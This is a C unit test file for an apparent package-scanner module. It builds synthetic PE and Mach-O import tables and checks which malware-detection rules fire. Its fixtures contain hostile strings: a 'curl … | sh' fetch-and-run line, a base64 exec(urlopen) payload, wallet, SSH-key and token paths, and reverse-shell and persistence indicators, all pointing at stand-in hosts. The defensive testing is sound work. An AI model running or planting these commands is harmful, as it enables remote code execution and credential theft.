/* SPDX-License-Identifier: Apache-2.0 */
/*
 * native: import and export tables.  ELF is this program itself; PE and Mach-O
 * are images of a few hundred bytes that hold tables and no code.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/buf.h"
#include "base/mem.h"
#include "base/str.h"
#include "inspect/native/native.h"
#include "inspect_tools.h"

static void
put(uint8_t *image, size_t at, uint64_t value, unsigned int width)
{
	for (unsigned int i = 0; i < width; i++)
		image[at + i] = (uint8_t)(value >> (8 * i));
}

#define IMAGE 2048

/* One section at address 0x1000, file offset 0x400, that holds the names. */
static void
pe_make(uint8_t image[IMAGE], const char *const *functions)
{
	size_t text = 0x600, thunk = 0x500;

	memset(image, 0, IMAGE);
	memcpy(image, "MZ", 2);
	put(image, 0x3c, 0x80, 4);
	memcpy(image + 0x80, "PE\0\0\x64\x86", 6);
	put(image, 0x86, 1, 2);			/* sections */
	put(image, 0x94, 0xf0, 2);		/* of the optional header */
	put(image, 0x98, 0x20b, 2);
	put(image, 0x98 + 112 + 8, 0x1000, 4);	/* imports */
	put(image, 0x98 + 0xf0 + 8, 0x400, 4);
	put(image, 0x98 + 0xf0 + 12, 0x1000, 4);
	put(image, 0x98 + 0xf0 + 16, 0x400, 4);
	put(image, 0x98 + 0xf0 + 20, 0x400, 4);
	put(image, 0x400, 0x1100, 4);		/* thunks, at 0x500 */
	put(image, 0x40c, 0x1080, 4);		/* library, at 0x480 */
	memcpy(image + 0x480, "KERNEL32.dll", 12);
	for (; *functions != NULL; functions++, thunk += 8) {
		put(image, thunk, text - 0x400 + 0x1000, 8);
		memcpy(image + text + 2, *functions, strlen(*functions));
		text += strlen(*functions) + 4;
	}
}

/* "import urllib.request", then its answer executed; nothing answers there. */
#define PROGRAM_64 "aW1wb3J0IHVybGxpYi5yZXF1ZXN0O2V4ZWModXJsbGliLnJlcXVlc3QudX" \
    "Jsb3BlbigiaHR0cHM6Ly94LmV4YW1wbGUuaW52YWxpZC9wIikucmVhZCgpKQ=="

/* "+name" is one that the image has itself, "'text" a text in it, "!text" one
 * behind its headers. */
static void
macho_make(uint8_t image[IMAGE], const char *const *functions)
{
	size_t at = 0x200, text = 1;
	uint32_t n = 0;

	memset(image, 0, IMAGE);
	put(image, 0, 0xfeedfacf, 4);
	put(image, 4, 0x01000007, 4);
	put(image, 16, 2, 4);			/* commands */
	put(image, 32, 0xc, 4);
	put(image, 36, 0x40, 4);
	put(image, 40, 24, 4);
	memcpy(image + 56, "/usr/lib/libSystem.B.dylib", 26);
	put(image, 96, 2, 4);
	put(image, 100, 24, 4);
	put(image, 104, 0x200, 4);
	put(image, 112, 0x400, 4);
	for (; *functions != NULL; functions++) {
		const char *name = *functions;
		bool own = *name == '+', bare;

		if (*name == '\'' || *name == '!') {
			memcpy(image + (*name == '!' ? 0x300 : 0x600),
			    name + 1, strlen(name + 1));
			continue;
		}
		name += own;
		put(image, at, text, 4);
		image[at + 4] = own ? 0xf : 1;	/* defined or not, external */
		bare = *name == '=';		/* as in ELF */
		image[0x400 + text] = '_';
		memcpy(image + 0x400 + text + !bare, name + bare,
		    strlen(name + bare));
		text += strlen(name) + 2;
		at += 16;
		n++;
	}
	put(image, 108, n, 4);
}

static void
dylib_make(uint8_t image[IMAGE], const char *const *functions)
{
	macho_make(image, functions);
	put(image, 12, 6, 4);			/* what others load */
}

static void
reads_this_program(void **state)
{
	FILE	*f = fopen("/proc/self/exe", "re");
	struct buf b = BUF_EMPTY;
	char	 piece[65536];
	struct native n;
	size_t	 got;

	(void)state;
	assert_non_null(f);
	while ((got = fread(piece, 1, sizeof(piece), f)) != 0)
		buf_add(&b, piece, got);
	(void)fclose(f);
	native_read((const uint8_t *)b.data, b.len, &n);
	assert_false(n.broken);
	/* Not one that the sanitizers bring themselves. */
	assert_true(native_imports(&n, "__libc_start_main"));
	assert_true(native_imports(&n, "_cmocka_run_group_tests"));
	assert_false(native_imports(&n, "__libc_start_mai"));
	assert_non_null(strstr(n.libraries.data, "\nlibc.so.6\n"));
	native_release(&n);
	/* Every prefix of the head: tables that point out of the file. */
	for (size_t len = 0; len < 4096 && len < b.len; len += 7) {
		uint8_t *exact = mem_array(1, len);

		memcpy(exact, b.data, len);
		native_read(exact, len, &n);
		native_release(&n);
		free(exact);
	}
	buf_release(&b);
}

static const struct {
	const char	*name;
	void		(*make)(uint8_t [IMAGE], const char *const *);
	const char	*functions[8];
	const char	*rule;		/* NULL: none */
} cases[] = {
	{ "an ordinary program", pe_make, { "ReadFile", "CreateProcessW" },
	    NULL },
	{ "injection", pe_make, { "VirtualAllocEx", "WriteProcessMemory",
	    "CreateRemoteThread" }, "native-injects" },
	{ "half of an injection", pe_make, { "WriteProcessMemory" }, NULL },
	{ "a downloader", pe_make, { "URLDownloadToFileA", "WinExec" },
	    "native-downloads" },
	{ "a cookie thief", pe_make, { "CryptUnprotectData" },
	    "native-decrypts-secrets" },
	{ "a packed program", pe_make, { "LoadLibraryA", "GetProcAddress",
	    "VirtualProtect" }, "native-packed" },
	{ "a key logger", pe_make, { "SetWindowsHookExW", "send" },
	    "native-watches-keys" },
	{ "a hot-key tool", pe_make, { "SetWindowsHookExW" }, NULL },
	{ "a program out of memory", macho_make, { "memfd_create", "execve" },
	    "native-runs-memory" },
	{ "a module that starts programs", macho_make, { "+PyInit_x",
	    "system", "getaddrinfo" }, "native-module-acts" },
	{ "a library that starts programs", macho_make, { "system",
	    "getaddrinfo" }, NULL },
	{ "a module that only connects", macho_make, { "+PyInit_x",
	    "getaddrinfo", "PyArg_ParseTuple" }, NULL },
	{ "a module that nobody can ask for anything", macho_make, {
	    "+PyInit_x", "PyModule_Create2", "getaddrinfo" },
	    "native-module-alone" },
	{ "a library beside an empty module", macho_make, { "+PyInit_x",
	    "+x_connect", "getaddrinfo" }, NULL },
	{ "a module with a command", macho_make, { "+PyInit_x",
	    "'curl -s https://x.example.invalid/i.sh | sh" },
	    "native-module-strings" },
	{ "a module that runs a command", macho_make, { "+PyInit_x", "system",
	    "'curl -s https://x.example.invalid/i.sh | sh" },
	    "native-module-fetches" },
	{ "a module that runs, and names a forge", macho_make, { "+PyInit_x",
	    "system", "'curl -s https://github.com/none/i.sh | sh" },
	    "native-module-strings" },
	{ "a library with a command", macho_make, {
	    "'curl -s https://x.example.invalid/i.sh | sh" }, NULL },
	{ "a library that runs a command", dylib_make, { "system",
	    "'curl -s https://x.example.invalid/i.sh | sh" },
	    "native-module-fetches" },
	{ "a module that plants an agent", macho_make, { "+PyInit_x", "fopen",
	    "'/Library/LaunchAgents/x.plist <key>RunAtLoad</key>" },
	    "native-module-plants" },
	{ "a module that reads about agents", macho_make, { "+PyInit_x",
	    "getpid", "'/Library/LaunchAgents/x.plist <key>RunAtLoad</key>" },
	    NULL },
	{ "a library that plants an agent", dylib_make, { "fopen",
	    "'/Library/LaunchAgents/x.plist <key>RunAtLoad</key>" }, NULL },
	{ "a module that steals", macho_make, { "+PyInit_x", "connect",
	    "'/.electrum/wallets\n/.bitcoin/wallet.dat" },
	    "native-module-steals" },
	{ "a module that reads for somebody", macho_make, { "+PyInit_x",
	    "open", "'/.electrum/wallets\n/.bitcoin/wallet.dat" },
	    "native-names-stores" },
	{ "a module that reads and sends nothing", macho_make, { "+PyInit_x",
	    "'/.electrum/wallets\n/.bitcoin/wallet.dat" }, NULL },
	{ "a library that steals", dylib_make, { "connect",
	    "'/.electrum/wallets\n/.bitcoin/wallet.dat" },
	    "native-module-steals" },
	{ "a library that logs in", dylib_make, { "connect",
	    "'%s/.ssh/id_rsa\n%s/.ssh/id_dsa\nhttps://x.example.invalid/" },
	    NULL },
	{ "a module that sends such keys", macho_make, { "+PyInit_x",
	    "connect", "'%s/.ssh/id_rsa\n%s/.ssh/id_ed25519" },
	    "native-module-steals" },
	{ "a library that reads a wallet", dylib_make, { "connect",
	    "'/.bitcoin/wallet.dat\npassword" }, NULL },
	{ "a module that takes everybody's keys", macho_make, { "+PyInit_x",
	    "connect", "getenv", "'GITHUB_TOKEN\nNPM_TOKEN\n"
	    "OPENAI_API_KEY\nhttps://x.example.invalid/m" },
	    "native-module-steals" },
	{ "a client of clouds", macho_make, { "+PyInit_x", "connect",
	    "getenv", "PyArg_ParseTuple", "'AWS_SECRET_ACCESS_KEY\nAZURE_CLIENT_SECRET\n"
	    "GOOGLE_APPLICATION_CREDENTIALS\nhttps://x.example.invalid/m" },
	    NULL },
	{ "a dumper of logins", macho_make, { "=MiniDumpWriteDump",
	    "'lsass.exe" }, "native-dumps-logins" },
	{ "a dumper of its own crash", macho_make, { "=MiniDumpWriteDump",
	    "'crash.dmp" }, NULL },
	{ "a client of one service", macho_make, { "+PyInit_x", "connect",
	    "PyArg_ParseTuple",
	    "'/.aws/credentials\n/.kube/config\n/.docker/config.json" },
	    NULL },
	{ "a shell on a connection", macho_make, { "+PyInit_x", "socket",
	    "connect", "dup2", "execve", "'/bin/sh\n203.0.113.7" },
	    "native-module-shell" },
	{ "a terminal at home", macho_make, { "+PyInit_x", "socket",
	    "connect", "dup2", "execve", "'/bin/sh\n127.0.0.1\n1.2.3.4" },
	    "native-module-acts" },
	{ "a shell that nobody told where to", macho_make, { "+PyInit_x",
	    "socket", "connect", "dup2", "execve", "'/bin/sh\n10.0.0.7" },
	    "native-module-acts" },
	{ "a library with a shell on a connection", dylib_make, { "socket",
	    "connect", "dup2", "execve", "'/bin/sh\n203.0.113.7" },
	    "native-module-shell" },
	{ "a library with a terminal at home", dylib_make, { "socket",
	    "connect", "dup2", "execve", "'/bin/sh\n192.168.1.1" }, NULL },
	{ "a program with a shell on a connection", macho_make, { "socket",
	    "connect", "dup2", "execve", "'/bin/sh\n203.0.113.7" },
	    "native-module-shell" },
	{ "a module that sends keys", macho_make, { "+PyInit_x",
	    "=CGEventTapCreate", "connect",
	    "'https://x.example.invalid/keys" }, "native-keys-sent" },
	{ "a module that hears keys at home", macho_make, { "+PyInit_x",
	    "=CGEventTapCreate", "'https://x.example.invalid/manual" },
	    NULL },
	{ "a module that swaps addresses", macho_make, { "+PyInit_x",
	    "=GetClipboardData", "=SetClipboardData",
	    "'0x52908400098527886E0F7030069857D2E4169EE7" },
	    "native-clipper" },
	{ "a module for the clipboard", macho_make, { "+PyInit_x",
	    "=GetClipboardData", "=SetClipboardData", "'text/plain;utf-8" },
	    NULL },
	{ "a library that asks for a password", dylib_make, { "popen",
	    "'display dialog \"Password\" with hidden answer" },
	    "native-asks-password" },
	{ "a library that knows such dialogs", dylib_make, { "open",
	    "'display dialog \"Password\" with hidden answer" }, NULL },
	{ "a loader of .NET", macho_make, { "=_CorExeMain",
	    "'DownloadData\nget_EntryPoint\nInvoke" },
	    "native-managed-loader" },
	{ "a client of .NET", macho_make, { "=_CorExeMain",
	    "'DownloadData\nInvoke" }, NULL },
	{ "a module with an encoded program", macho_make, { "+PyInit_x",
	    "'" PROGRAM_64 }, "native-module-hides" },
	{ "a module with an encoded picture", macho_make, { "+PyInit_x",
	    "'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M"
	    "9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" }, NULL },
	{ "a library in everybody's stead", dylib_make, { "dlsym", "+=readdir",
	    "'/etc/ld.so.preload" }, "native-preloads" },
	{ "a library that knows of it", dylib_make, { "dlsym", "+x_check",
	    "'/etc/ld.so.preload" }, NULL },
	{ "a module that fetches by itself", macho_make, { "+PyInit_x",
	    "connect", "chmod", "execv",
	    "'https://x.example.invalid/p\n/tmp/.cache-x" },
	    "native-module-fetches" },
	{ "a module that fetches from a forge", macho_make, { "+PyInit_x",
	    "connect", "chmod", "execv", "PyArg_ParseTuple",
	    "'https://github.com/none/p\n/tmp/.cache-x" }, NULL },
	{ "a library that asks for a page", dylib_make, { "connect",
	    "fchmod", "execv", "'GET /l HTTP/1.0\n/tmp/l" },
	    "native-module-fetches" },
	{ "a library that serves pages", dylib_make, { "connect", "fchmod",
	    "execv", "'HTTP/1.0 200 OK\n/tmp/l" }, NULL },
	{ "a library that looks up what it calls", dylib_make, { "dlsym",
	    "'system\ncurl -s https://x.example.invalid/i.sh | sh" },
	    "native-module-fetches" },
	{ "a module that sends the environment", macho_make, { "+PyInit_x",
	    "environ", "connect", "send", "PyArg_ParseTuple",
	    "'Host: x.example.invalid" }, "native-module-environ" },
	{ "a module that hands the environment on", macho_make, {
	    "+PyInit_x", "environ", "connect", "PyArg_ParseTuple",
	    "'Host: x.example.invalid" }, NULL },
	{ "a module that executes a page", macho_make, { "+PyInit_x",
	    "'urlopen\nexec\nhttps://x.example.invalid/p" },
	    "native-module-executes" },
	{ "a module that reads a page", macho_make, { "+PyInit_x",
	    "'urlopen\nexecutor\nhttps://x.example.invalid/p" }, NULL },
	{ "an image of .NET that starts unseen", macho_make, {
	    "=_CorExeMain", "'DownloadFile\nset_CreateNoWindow\n"
	    "https://x.example.invalid/p" }, "native-module-fetches" },
	{ "an image of .NET that downloads", macho_make, {
	    "=_CorExeMain", "'DownloadFile\nStart\n"
	    "https://x.example.invalid/p" }, NULL },
	{ "a packed library", dylib_make, { "open", "!UPX!" },
	    "native-packed" },
	{ "a module with an address", macho_make, { "+PyInit_x",
	    "'https://x.example.invalid/manual.html" }, NULL },
	{ "an ordinary Mach-O", macho_make, { "open", "read", "execve" },
	    NULL },
};

static void
says_what_it_asks_for(void **state)
{
	const struct inspect_tools *t = *state;
	struct inspected_file file = { "p", "1", "p-1-cp311-win_amd64.whl",
	    PACKAGE_WHEEL };

	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct features f = { 0 };
		struct inspection *in = inspection_new(t->inspector, &file,
		    NULL, &f);
		const char *found = NULL;
		uint8_t image[IMAGE];

		cases[i].make(image, cases[i].functions);
		inspection_entry(in, &(struct entry){ .kind = ENTRY_FILE,
		    .path = "p/x.bin", .inner = "p/x.bin", .data = image,
		    .size = IMAGE, .installed = true });
		inspection_end(in);
		inspection_free(in);
		for (size_t k = 0; k < f.nfindings; k++)
			if (str_starts(f.findings[k].category, "native-"))
				found = f.findings[k].rule;
		if (!str_equal(found, cases[i].rule))
			fail_msg("%s: %s", cases[i].name,
			    found != NULL ? found : "nothing");
		features_release(&f);
	}
}

/* Every byte of the tables set to everything that points elsewhere. */
static void
survives_damage(void **state)
{
	(void)state;
	for (size_t i = 1; i < ARRAY_LEN(cases); i += 5)
		for (size_t at = 4; at < IMAGE; at++)
			for (int how = 0; how < 2; how++) {
				uint8_t *image = mem_alloc(IMAGE);
				struct native n;

				cases[i].make(image, cases[i].functions);
				image[at] = how ? 0xff : (uint8_t)(image[at] ^
				    0x41);
				native_read(image, IMAGE, &n);
				native_release(&n);
				free(image);
			}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(reads_this_program),
		cmocka_unit_test(says_what_it_asks_for),
		cmocka_unit_test(survives_damage),
	};

	return cmocka_run_group_tests(tests, inspect_tools_setup,
	    inspect_tools_teardown);
}
